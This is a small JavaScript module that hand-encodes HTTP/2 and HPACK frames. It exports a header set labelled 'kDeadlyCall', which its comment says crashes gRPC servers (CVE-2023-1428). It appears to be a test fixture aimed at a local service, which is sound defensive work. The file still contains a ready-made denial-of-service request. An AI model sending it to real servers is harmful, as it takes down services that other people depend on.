// HTTP/2 as bytes, for calls that no client would make.

const kPrefixMax = 127; // the largest length in one byte says that more of it follows

function stringOf(text) {
  const over = text.length - kPrefixMax;
  const length = over < 0 ? [text.length] : [kPrefixMax, (over & 127) | 128, over >> 7];
  return Buffer.concat([Buffer.from(length), Buffer.from(text)]);
}

// What a client sends first, and a call with these fields and no body (RFC 9113, 3.4 and 6.2). Each
// field is a literal (RFC 7541, 6.2.2); one has at most 16 KB.
export function firstCall(fields) {
  const literals = Object.entries(fields).flatMap(([name, value]) => [
    Buffer.from([0]),
    stringOf(name),
    stringOf(value),
  ]);
  const block = Buffer.concat(literals);
  const settings = Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]);
  const head = Buffer.from([0, block.length >> 8, block.length & 255, 1, 5, 0, 0, 0, 1]);
  return Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), settings, head, block]);
}

// A field `te` that is none, before more than 8 KB of others, has ended servers of gRPC
// (CVE-2023-1428).
export const kDeadlyCall = {
  ':method': 'POST',
  ':scheme': 'http',
  ':path': '/ackwire.v1.MessageService/Publish',
  ':authority': 'localhost',
  'content-type': 'application/grpc',
  te: 'x',
  'x-large': 'x'.repeat(9 * 1024),
};
